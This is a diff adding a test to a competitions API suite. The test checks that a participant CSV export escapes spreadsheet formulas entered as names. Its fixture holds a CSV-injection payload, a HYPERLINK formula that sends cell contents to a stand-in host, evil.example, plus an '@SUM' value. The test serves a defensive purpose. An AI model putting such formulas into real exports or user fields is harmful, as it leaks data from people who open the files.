@@ -171,4 +171,31 @@ describe('staff competitions', () => {
     expect(csv.body.split('\r\n').filter(Boolean)).toHaveLength(5);
     expect(csv.body).toContain('Vorname;Nachname;E-Mail');
   });
+
+  it('the participant CSV keeps a formula typed into a name as text (CSV injection)', async () => {
+    const c = await createCompetition(db(), { competitionType: 3 });
+    const attacker = await createViewer(ctx, {
+      job: 'PTA',
+      employeeVerified: true,
+      firstName: '=HYPERLINK("https://evil.example/?x="&A1,"Details")',
+      lastName: '@SUM(A1)',
+    });
+    const joined = await ctx.app.inject({
+      method: 'POST',
+      url: `/api/v1/competitions/${c.id}/participation`,
+      headers: attacker.headers,
+      payload: { hasAcceptedTos: true },
+    });
+    expect(joined.statusCode).toBeLessThan(300);
+
+    const csv = await call(staff, 'GET', `/competitions/${c.id}/participants.csv`);
+    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(csv.body.startsWith('\uFEFFVorname;Nachname;E-Mail;')).toBe(true);
+    const [, row] = csv.body.split('\r\n');
+    expect(row?.split(';').slice(0, 2)).toEqual([
+      `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Details"")"`,
+      "'@SUM(A1)",
+    ]);
+    expect(row).toMatch(/;\d+;$/);
+  });
 });
